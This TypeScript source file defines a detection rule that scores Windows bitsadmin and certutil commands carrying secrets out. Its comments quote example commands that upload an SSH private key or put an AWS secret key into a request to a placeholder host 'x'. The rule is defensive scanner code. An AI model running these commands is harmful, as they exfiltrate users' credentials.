import { type AnchoredCommand, commandAt, EXE_SUFFIX } from './anchored-command.js';
import { hostIsVariable, secretVariableScore, urlHost } from './exfiltration-hosts.js';
import type { PayloadRule } from './payload-rule.js';
import { createPipelineReader } from './pipeline-reader.js';
import {
  commandName,
  isSensitivePath,
  scriptReadsSecrets,
  secretVariableNames,
} from './sensitive-sources.js';

// Windows' built-in transfer tools used to send secrets: `bitsadmin /transfer job /upload URL
// %USERPROFILE%\.ssh\id_rsa` (bitsadmin transfer: `/upload` sends the local file), and `certutil
// -urlcache -split -f "http://x/?d=%AWS_SECRET_ACCESS_KEY%"`, whose request URL carries the data. A
// download (`certutil -urlcache -f https://example.com/tool.exe tool.exe`, `bitsadmin /transfer j URL file`)
// sends nothing of the machine's and is left to other detectors; `certutil -hashfile key SHA256` sends
// nothing at all. `certutil -encode key k.b64` followed by an upload is caught where the upload names
// `k.b64` (held-secrets.ts).

/** The tools this rule reads. */
export const WINDOWS_NAMES: ReadonlySet<string> = new Set(['bitsadmin', 'certutil']);

/** certutil verbs that fetch a URL (and so send what the URL holds). */
const CERTUTIL_FETCH = new Set(['-urlcache', '/urlcache', '-verifyctl', '/verifyctl', '-url', '/url']);

/** The best of several optional scores. */
function best(scores: readonly (number | undefined)[]): number | undefined {
  let top: number | undefined;
  for (const score of scores) if (score !== undefined && (top === undefined || score > top)) top = score;
  return top;
}

/** The score of a certutil fetch whose URL carries secrets: a substitution that reads them, or a secret variable. */
function certutilScore(values: readonly string[]): number | undefined {
  if (!values.some((value) => CERTUTIL_FETCH.has(value.toLowerCase()))) return undefined;
  const scores: (number | undefined)[] = [];
  for (const value of values) {
    if (!value.includes('://')) continue;
    if (scriptReadsSecrets(value)) return 0.85;
    const host = urlHost(value);
    if (host === undefined || hostIsVariable(host)) continue;
    for (const name of secretVariableNames([value])) scores.push(secretVariableScore(name, host));
  }
  return best(scores);
}

/** The score of a bitsadmin upload job whose local file is a secret (`/transfer … /upload … REMOTE LOCAL`). */
function bitsadminScore(values: readonly string[]): number | undefined {
  const lower = values.map((value) => value.toLowerCase());
  if (!lower.includes('/transfer') || !lower.includes('/upload')) return undefined;
  return values.some((value) => !value.startsWith('/') && isSensitivePath(value)) ? 0.85 : undefined;
}

/** The score of a `bitsadmin` or `certutil` command (`name` lower-cased, without `.exe`). */
export function windowsTransferScore(name: string, anchored: AnchoredCommand): number | undefined {
  const values = anchored.after.map((word) => word.value);
  return name === 'certutil' ? certutilScore(values) : bitsadminScore(values);
}

const reader = createPipelineReader();

/** Secrets sent with bitsadmin uploads or carried in a certutil fetch's URL. */
export const WINDOWS_TRANSFER_RULE: PayloadRule = {
  id: 'output.shell-exfil-windows-transfer',
  type: 'SHELL_EXFILTRATION',
  pattern: /\b(?:bitsadmin|certutil)(?:\.exe)?\s/,
  score: 0.85,
  // Name parts whose first three letters are rare (`bit`, `cer` open many words).
  hints: ['tsadmin', 'rtutil'],
  confirm: ({ text, start }) => {
    const anchored = commandAt({ reader, text, start, names: WINDOWS_NAMES });
    const command = commandName(anchored.command);
    if (command === undefined || anchored.command[command.at]?.start !== start) return undefined;
    return windowsTransferScore(command.name.replace(EXE_SUFFIX, ''), anchored);
  },
};
